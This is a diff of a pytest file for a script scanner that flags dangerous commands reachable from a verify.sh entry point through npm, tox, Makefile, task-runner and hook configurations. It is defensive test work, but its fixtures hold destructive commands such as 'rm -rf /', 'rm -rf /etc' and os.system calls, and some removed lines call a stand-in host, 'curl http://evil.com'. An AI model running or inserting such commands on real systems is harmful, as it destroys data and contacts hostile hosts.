@@ -4,8 +4,6 @@ import pytest
 
 from refute.scan.scanner import scan_files
 
-STEP = '#!/bin/sh\necho "$1"\nrm -rf "$OUT"\n'
-
 
 def _blocked_paths(files: dict[str, str], entry: str = "verify.sh") -> set[str]:
     result = scan_files({path: text.encode() for path, text in files.items()}, [entry])
@@ -72,36 +70,6 @@ def test_a_function_that_its_own_file_has_called_is_judged_again_where_another_c
 
 def test_files_that_source_one_another_are_read_once() -> None:
     assert _blocked_paths({"verify.sh": ". ./lib.sh\n", "lib.sh": ". ./verify.sh\n. ./lib.sh\n"}) == set()
-
-
-@pytest.mark.parametrize(
-    "call",
-    [
-        "export OUT=/; ./step.sh",
-        "OUT=/etc sh step.sh",
-        "env OUT=/ ./step.sh",
-    ],
-)
-def test_handing_a_script_a_directory_of_the_machine_blocks(call: str) -> None:
-    assert _blocked_paths({"verify.sh": call + "\n", "step.sh": STEP}) == {"verify.sh"}
-
-
-@pytest.mark.parametrize(
-    "call",
-    [
-        "./step.sh build",
-        "OUT=build ./step.sh",
-        "export PREFIX=/usr; ./step.sh --prefix=/usr",
-        "./step.sh http://localhost",
-    ],
-)
-def test_handing_a_script_what_is_ordinary_passes(call: str) -> None:
-    assert _blocked_paths({"verify.sh": call + "\n", "step.sh": STEP}) == set()
-
-
-def test_a_script_that_does_nothing_with_what_it_gets_may_get_anything() -> None:
-    files = {"verify.sh": "export OUT=/\n./step.sh /etc http://evil.com/x\n", "step.sh": "#!/bin/sh\nrm -rf build\n"}
-    assert _blocked_paths(files) == set()
 
 
 def test_tests_named_by_a_pattern_are_scanned() -> None:
@@ -181,51 +149,29 @@ def test_script_fed_to_an_interpreter_is_scanned() -> None:
 
 
 @pytest.mark.parametrize(
-    ("name", "text"),
+    ("command", "name", "text"),
     [
-        ("pyproject.toml", '[project.scripts]\nmytool = "pkg.cli:main"\n'),
-        ("pyproject.toml", '[tool.poetry.scripts]\nmytool = "pkg.cli:main"\n'),
-        ("setup.cfg", "[options.entry_points]\nconsole_scripts =\n  mytool = pkg.cli:main\n"),
+        ("npm test", "package.json", "{"),
+        ("tox -q", "tox.ini", "["),
+        ("hatch run lint:all", "pyproject.toml", "[tool.hatch.envs.lint.scripts]\nall = 'ruff'\n"),
+        ("poe b", "pyproject.toml", "[tool.poe.tasks]\nb = 'ruff'\n"),
+        ("just build", "justfile", ""),
+        ("pre-commit run -a", ".pre-commit-config.yaml", ""),
     ],
 )
-def test_console_script_of_the_workspace_is_scanned(name: str, text: str) -> None:
-    files = {"verify.sh": "mytool --help\n", name: text, "src/pkg/cli.py": "import os\nos.system('rm -rf /')\n"}
-    assert _blocked_paths(files) == {"src/pkg/cli.py"}
+def test_configuration_that_holds_commands_is_not_read_and_asked_about(command: str, name: str, text: str) -> None:
+    (finding,) = scan_files({"verify.sh": command.encode(), name: text.encode()}, ["verify.sh"]).blocking
+    assert (finding.path, finding.rule_id, finding.tier.name) == (name, "foreign-code", "CONFIRM")
 
 
-@pytest.mark.parametrize("command", ["npm test", "npm run test", "yarn test", "npm ci"])
-def test_npm_script_is_scanned_where_it_stands(command: str) -> None:
-    package = '{\n"name": "x",\n"scripts": {\n"pretest": "rm -rf /etc",\n"prepare": "rm -rf /usr"\n}\n}\n'
-    result = scan_files({"verify.sh": command.encode(), "package.json": package.encode()}, ["verify.sh"])
-    assert [(f.path, f.line) for f in result.blocking] == [("package.json", 5 if command == "npm ci" else 4)]
-
-
-def test_npm_script_that_runs_another_is_followed() -> None:
-    package = '{"scripts": {"a": "npm run b", "b": "npm run a && curl http://evil.com"}}'
-    assert _blocked_paths({"verify.sh": "npm run a\n", "package.json": package}) == {"package.json"}
-
-
-@pytest.mark.parametrize(
-    ("name", "text"),
-    [
-        ("tox.ini", "[testenv]\ncommands =\n    pytest {posargs:tests}\n    sh -c 'rm -rf /etc'\n"),
-        ("setup.cfg", "[tox:testenv]\ncommands =\n    sh -c 'rm -rf /etc'\n"),
-        ("pyproject.toml", '[tool.tox.env_run_base]\ncommands = [["rm", "-rf", "/etc"]]\n'),
-        ("pyproject.toml", '[tool.tox]\nlegacy_tox_ini = "[testenv]\\ncommands = rm -rf /etc"\n'),
-    ],
-)
-def test_commands_of_tox_are_scanned(name: str, text: str) -> None:
-    assert _blocked_paths({"verify.sh": "tox -q\n", name: text}) == {name}
+@pytest.mark.parametrize("command", ["uv run pytest", "poetry run pytest -q"])
+def test_a_program_that_a_project_tool_runs_is_no_task(command: str) -> None:
+    project = b"[tool.poetry.dependencies]\npytest = '^8'\n[tool.poetry.scripts]\nx = 'x:main'\n"
+    assert scan_files({"verify.sh": command.encode(), "pyproject.toml": project}, ["verify.sh"]).safe
 
 
 def test_session_file_of_nox_is_scanned() -> None:
     assert _blocked_paths({"verify.sh": "nox\n", "noxfile.py": "import os\nos.system('rm -rf /')\n"}) == {"noxfile.py"}
-
-
-@pytest.mark.parametrize("text", ["{", "[", "[testenv\n", "[[[[", '{"scripts": 3}', "{" * 50_000])
-def test_unreadable_configuration_runs_nothing(text: str) -> None:
-    files = dict.fromkeys(["package.json", "tox.ini", "setup.cfg", "pyproject.toml"], text)
-    assert _blocked_paths({"verify.sh": "npm test\ntox\nmytool\n", **files}) == set()
 
 
 def test_scripts_that_run_each_other_are_scanned_once() -> None:
@@ -254,16 +200,8 @@ PYTHON_STEP = "import os\nos.system('rm -rf /etc/x')\n"
         ("make", "GNUmakefile", f"all:\n\t{RM}"),
         ("make -C sub", "sub/Makefile", f"all:\n\t{RM}"),
         ('make "$T"', "Makefile", f"all:\n\techo\nother:\n\t{RM}"),
-        ("make", "Makefile", "define R\nrm -rf /etc/x\nendef\nall:\n\t$(R)\n"),
-        ("hatch run lint:all", "pyproject.toml", "[tool.hatch.envs.lint.scripts]\nall = 'rm -rf /etc/x'\n"),
-        ("pdm run b", "pyproject.toml", "[tool.pdm.scripts]\nb = {cmd = 'rm -rf /etc/x'}\n"),
-        ("poe b", "pyproject.toml", "[tool.poe.tasks]\nb = ['echo', 'rm -rf /etc/x']\n"),
-        ("task b", "pyproject.toml", "[tool.taskipy.tasks]\nb = 'rm -rf /etc/x'\n"),
-        ("just build", "justfile", "build:\n    rm -rf /etc/x\n"),
         ("invoke b", "tasks.py", PYTHON_STEP),
-        ("pre-commit run -a", ".pre-commit-config.yaml", "repos:\n- hooks:\n  - id: x\n    entry: rm -rf /etc/x\n"),
         ("git config core.hooksPath hooks; git commit -m x", "hooks/pre-commit", SHELL_STEP),
-        ("bats t", "t/x.bats", '@test "a" {\n  rm -rf /etc/x\n}\n'),
         ("uv run --script x.txt", "x.txt", PYTHON_STEP),
         ("uv run x.py", "x.py", PYTHON_STEP),
         ("python -m unittest discover -s t -p 'check*.py'", "t/check1.py", PYTHON_STEP),
